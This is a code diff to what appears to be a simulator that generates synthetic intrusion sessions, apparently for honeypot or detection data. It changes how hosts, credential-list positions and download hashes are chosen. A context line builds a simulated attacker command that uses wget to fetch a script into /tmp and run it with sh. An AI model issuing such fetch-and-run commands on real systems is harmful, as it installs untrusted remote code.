@@ -124,13 +124,15 @@ def live(world: World, network: Network, tool: Tool, count: int, span: float, be
     """An ordinary source's sessions: one tool, one client of it, a host of its own for what it fetches."""
     random = world.random
     client = random.choice(tool.clients)
-    host = random.choice(habits.PUBLIC_HOSTS) if random.random() < 0.15 else own_host(world, network.address)
+    host = own_host(world, network.address)
+    if random.random() < 0.15:
+        host = f"{random.choice(habits.PUBLIC_HOSTS)}/{random.getrandbits(40):010x}"
     begin = random.uniform(0, world.days * DAY - span) if begin is None else begin
     pace = (
         random.choice((600, 1800, 3600, 3600, 21_600, random.uniform(300, 20_000))) if random.random() < 0.05 else 0.0
     )
     count = max(min(count, 1 + int((world.days * DAY - begin) / pace)), 1) if pace else count
-    at = min(int(random.expovariate(1 / 30)), max(len(tool.pairs) - 1, 0))
+    at = 0  # a list is tried from its top, and those who stay long get further
     for number in range(count):
         moment = (
             begin + number * pace * random.gauss(1, 0.003)
@@ -138,7 +140,7 @@ def live(world: World, network: Network, tool: Tool, count: int, span: float, be
             else begin + span * (random.random() if count < 8 else (number + random.random()) / count)
         )
         world.session(network, moment, **ordinary(world, tool, client, host, at))
-        at = (at + 3) % max(len(tool.pairs), 1)
+        at = (at + 6) % max(len(tool.pairs), 1)
 
 
 def own_host(world: World, name: str) -> str:
@@ -179,7 +181,9 @@ def shell(world: World, tool: Tool, host: str) -> dict[str, Any]:
         return {"commands": commands}
     url = f"http://{host}/{tool.filename}"
     commands.append(f"cd /tmp; wget {url} -O .{random.getrandbits(32):08x}; sh {tool.filename}")
-    return {"commands": commands, "urls": [url], "downloads": [random.choice(tool.shasums)]}
+    # Of the tools that fewer use, every copy is built anew.
+    public = tool not in world.tools[8:]
+    return {"commands": commands, "urls": [url], "downloads": [tool.shasums[0] if public else fresh_digest(world)]}
 
 
 def fresh_digest(world: World) -> str:
